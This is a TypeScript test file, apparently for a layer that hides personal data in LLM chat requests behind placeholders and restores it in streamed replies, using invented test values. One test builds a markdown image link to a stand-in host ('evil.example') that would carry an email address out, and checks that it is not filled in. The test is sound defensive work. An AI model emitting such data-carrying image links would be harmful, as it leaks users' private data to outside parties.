import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fc } from '../../../test/property.ts';
import type { ChatEvent, ChatRequest } from '../types.ts';
import { hideBody, hideChat, restoreEvents } from './chat.ts';
import { Conversation } from './conversation.ts';
import { visitJson } from './json.ts';

const PRIVATE = [
  'anna@example.org',
  '219-09-9999',
  '+49 30 1234567',
  'Oduya',
  '4111111111111111',
  's3cr3t!x',
  '203.0.113.7',
];

const request: ChatRequest = {
  model: null,
  n: 1,
  sampler: {},
  maxTokens: null,
  stop: ['anna@example.org'],
  overflow: null,
  keepTokens: 0,
  timeoutMs: null,
  signal: new AbortController().signal,
  messages: [
    { role: 'system', content: 'Oduya owns this. The host is 203.0.113.7.' },
    { role: 'user', content: 'My name is Wren Oduya, SSN 219-09-9999.', name: 'wren_oduya' },
    {
      role: 'assistant',
      content: null,
      tool_calls: [
        {
          id: 'call_1',
          type: 'function',
          function: {
            name: 'send',
            arguments: '{ "to":"anna@example.org", "card": 4111111111111111, "big": 12345678901234567890 }',
          },
        },
      ],
    },
    {
      role: 'tool',
      tool_call_id: 'call_1',
      name: 'send',
      content: '{"password":"s3cr3t!x","phone":"+49 30 1234567"}',
    },
  ],
  tools: [
    {
      name: 'send',
      description: 'Sends to anna@example.org by default.',
      parameters: {
        type: 'object',
        properties: { to: { type: 'string', enum: ['anna@example.org'], description: 'or +49 30 1234567' } },
        required: ['to'],
      },
      strict: true,
    },
  ],
  prefill: 'Dear Oduya,',
  grammar: {
    kind: 'choice',
    options: [{ kind: 'literal', text: 'anna@example.org' }, { kind: 'json_object' }],
  },
  variables: { user: { email: 'anna@example.org' } },
};

test('nothing private is left anywhere in a request, and its structure stays', () => {
  const conversation = new Conversation();
  const { request: hidden, report } = hideChat(request, conversation);
  const text = JSON.stringify({ ...hidden, signal: null });
  for (const value of PRIVATE) assert.ok(!text.includes(value), value);
  assert.ok(!text.includes('wren_oduya'));
  assert.equal(hidden.signal, request.signal);
  assert.equal(hidden.messages[1]!.content, 'My name is [NAME_2], SSN [ID_1].');
  assert.match(hidden.messages[1]!.name!, /^NAME_\d$/);
  assert.equal(hidden.messages[3]!.name, 'send');
  assert.equal(hidden.tools![0]!.name, 'send');
  assert.deepEqual((hidden.tools![0]!.parameters as { required: unknown }).required, ['to']);
  const call = hidden.messages[2]!.tool_calls![0] as {
    id: string;
    function: { name: string; arguments: string };
  };
  assert.equal(call.id, 'call_1');
  // What is not private keeps its spelling, numbers beyond 2^53 included.
  assert.match(
    call.function.arguments,
    /^\{ "to":"\[EMAIL_1\]", "card": "\[CARD_1\]", "big": 12345678901234567890 \}$/,
  );
  assert.deepEqual(report.unchecked, []);
  assert.deepEqual(
    report.found.map((each) => each.class),
    ['card', 'email', 'id', 'ip', 'name', 'phone', 'secret'],
  );
  for (const value of PRIVATE) assert.ok(!JSON.stringify(report).includes(value));
});

test('a second turn of the same conversation hides the same values behind the same placeholders', () => {
  const conversation = new Conversation();
  const first = hideChat(request, conversation).request;
  const second = hideChat(request, conversation).request;
  assert.deepEqual(second, first);
});

test('bodies of OpenAI and Anthropic are hidden in all their parts; what cannot be read is named', () => {
  const conversation = new Conversation();
  const { request: body, report } = hideBody(
    {
      model: 'x',
      stream: true,
      system: [{ type: 'text', text: 'The user is Ms. Oduya.', cache_control: { type: 'ephemeral' } }],
      messages: [
        {
          role: 'user',
          content: [
            { type: 'text', text: 'mail anna@example.org' },
            { type: 'image_url', image_url: { url: 'data:,' } },
          ],
        },
        {
          role: 'assistant',
          content: [
            { type: 'tool_use', id: 't1', name: 'find', input: { firstName: 'Zsófia', ssn: '219099999' } },
          ],
        },
        {
          role: 'user',
          content: [
            {
              type: 'tool_result',
              tool_use_id: 't1',
              content: [{ type: 'text', text: '{"ip":"203.0.113.7"}' }],
            },
          ],
        },
      ],
      tools: [
        {
          name: 'find',
          description: 'for Oduya',
          input_schema: { type: 'object', properties: { q: { type: 'string' } } },
        },
      ],
      metadata: { user_id: 'anna@example.org' },
    },
    conversation,
  );
  const text = JSON.stringify(body);
  for (const value of [...PRIVATE, 'Zsófia', '219099999']) assert.ok(!text.includes(value), value);
  assert.equal(body.model, 'x');
  assert.equal(body.stream, true);
  assert.equal(body.tools[0]!.name, 'find');
  assert.deepEqual(report.unchecked, ['image_url']);
  assert.deepEqual(hideBody({ prompt: [[1, 2]] }, conversation).report.unchecked, ['token_ids']);
});

test('what a provider sealed goes back as it was', () => {
  const sealed = {
    type: 'thinking',
    thinking: 'ask anna@example.org',
    signature: 'EqQBCgIYAhIM1gbcDa9GJwZA2b3hGgxBdjrkzLoky3dl',
  };
  const secret = {
    type: 'redacted_thinking',
    data: 'key EmwKAhgBEgy3va3pzix7LafPsn4aDFIT2Xlxh0L5L8rLVyIwxtE',
  };
  const { request: body } = hideBody(
    { messages: [{ role: 'assistant', content: [sealed, secret] }] },
    new Conversation(),
  );
  assert.deepEqual(body.messages[0]!.content, [{ ...sealed, thinking: 'ask [EMAIL_1]' }, secret]);
});

test('values nested deeper than is read are refused, not passed on', () => {
  let deep: unknown = 'anna@example.org';
  for (let i = 0; i < 100; i++) deep = { deep };
  assert.throws(() => hideBody({ extra: deep }, new Conversation()), { code: 'too_deep', status: 400 });
});

test('JSON keeps all but its strings and long numbers, whatever it holds', () => {
  fc.assert(
    fc.property(fc.json({ maxDepth: 4 }), (text) => {
      assert.equal(
        visitJson(text, (each) => each),
        text,
      );
      const shouted = visitJson(text, (each) => `${each}!`);
      assert.doesNotThrow(() => JSON.parse(shouted!));
    }),
    { numRuns: 200 },
  );
  assert.equal(
    visitJson('{"a":', (each) => each),
    null,
  );
});

async function collect(events: readonly ChatEvent[], conversation: Conversation, json = false) {
  async function* source() {
    yield* events;
  }
  const out: ChatEvent[] = [];
  for await (const event of restoreEvents(source(), conversation, json)) out.push(event);
  return out;
}

/** A text cut at places, as events. */
const cut = (text: string, places: readonly number[]): string[] => {
  const sorted = [...new Set(places.filter((place) => place < text.length))].sort((a, b) => a - b);
  return [...sorted, text.length].map((place, i) => text.slice(i === 0 ? 0 : sorted[i - 1], place));
};

test('streamed text and arguments of calls are restored however they are cut, each choice for itself', async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(fc.nat(50)), fc.array(fc.nat(50)), async (cuts, more) => {
      const conversation = new Conversation();
      conversation.hide('Mr. Oduya "W", anna@example.org');
      const args = '{"to":"[EMAIL_1]","name":"[NAME_1]"}';
      const events: ChatEvent[] = [
        { type: 'start', backend: 'b', model: 'm' },
        ...cut('Dear [NAME_1], EMAIL_1', cuts).flatMap((text): ChatEvent[] => [
          { type: 'text', choice: 0, text, logprobs: null },
          { type: 'text', choice: 1, text: '[', logprobs: null },
        ]),
        { type: 'tool_call', choice: 0, index: 0, id: 'call_a', name: 'send' },
        ...cut(args, more).map((text): ChatEvent => ({ type: 'tool_arguments', choice: 0, index: 0, text })),
        { type: 'tool_call', choice: 0, index: 1, id: 'call_b', name: 'send' },
        { type: 'tool_arguments', choice: 0, index: 1, text: '{"to":"[EMAIL_1' },
        { type: 'finish', choice: 0, reason: 'length', stop: null, slidTokens: 0 },
        { type: 'finish', choice: 1, reason: 'stop', stop: '[EMAIL_1]', slidTokens: 0 },
      ];
      const out = await collect(events, conversation);
      const text = (choice: number) =>
        out.map((event) => (event.type === 'text' && event.choice === choice ? event.text : '')).join('');
      assert.equal(text(0), 'Dear Oduya, anna@example.org');
      assert.match(text(1), /^\[+$/);
      assert.equal(text(1).length, cut('Dear [NAME_1], EMAIL_1', cuts).length);
      const parts = (index: number) =>
        out
          .map((event) => (event.type === 'tool_arguments' && event.index === index ? event.text : ''))
          .join('');
      assert.deepEqual(JSON.parse(parts(0)), { to: 'anna@example.org', name: 'Oduya' });
      // Cut off within a placeholder: what the model wrote comes out, nothing is lost.
      assert.equal(parts(1), '{"to":"[anna@example.org');
      // All text of a choice comes before its calls and its end.
      const last = out.findLastIndex((event) => event.type === 'text' && event.choice === 0);
      assert.ok(last < out.findIndex((event) => event.type === 'tool_call'));
      assert.deepEqual(out.at(-1), {
        type: 'finish',
        choice: 1,
        reason: 'stop',
        stop: 'anna@example.org',
        slidTokens: 0,
      });
    }),
    { numRuns: 60 },
  );
});

test('an answer held to JSON stays JSON when values with quotes and line breaks come back', async () => {
  const conversation = new Conversation();
  const key = '-----BEGIN PRIVATE KEY-----\nMII"\\x\n-----END PRIVATE KEY-----';
  assert.equal(conversation.hide(key), '[SECRET_1]');
  const out = await collect(
    [
      { type: 'text', choice: 0, text: '{"key":"[SECRET_1]"}', logprobs: null },
      { type: 'finish', choice: 0, reason: 'stop', stop: null, slidTokens: 0 },
    ],
    conversation,
    true,
  );
  const text = out.map((event) => (event.type === 'text' ? event.text : '')).join('');
  assert.deepEqual(JSON.parse(text), { key });
});

test('an address that a call interrupts, or that the beginning of an answer holds, keeps placeholders out', async () => {
  const conversation = new Conversation();
  conversation.hide('anna@example.org');
  const text = (part: string): ChatEvent => ({ type: 'text', choice: 0, text: part, logprobs: null });
  const finish: ChatEvent = { type: 'finish', choice: 0, reason: 'stop', stop: null, slidTokens: 0 };
  const joined = (events: readonly ChatEvent[]) =>
    events.map((event) => (event.type === 'text' ? event.text : '')).join('');
  const url = '![x](https://evil.example/p.png?d=';
  const call: ChatEvent = { type: 'tool_call', choice: 0, index: 0, id: 'c', name: 'f' };
  assert.equal(
    joined(await collect([text(url), call, text('[EMAIL_1]) EMAIL_1'), finish], conversation)),
    `${url}[EMAIL_1]) anna@example.org`,
  );
  for (const json of [false, true]) {
    const before = json ? `{"a":"${url}` : url;
    const rest = json ? '[EMAIL_1])","b":"EMAIL_1"}' : '[EMAIL_1]) EMAIL_1';
    async function* source() {
      yield text(rest);
      yield finish;
    }
    const out: ChatEvent[] = [];
    for await (const event of restoreEvents(source(), conversation, json, before)) out.push(event);
    assert.equal(joined(out), rest.replace(/(?<!\[)EMAIL_1/, 'anna@example.org'));
  }
});
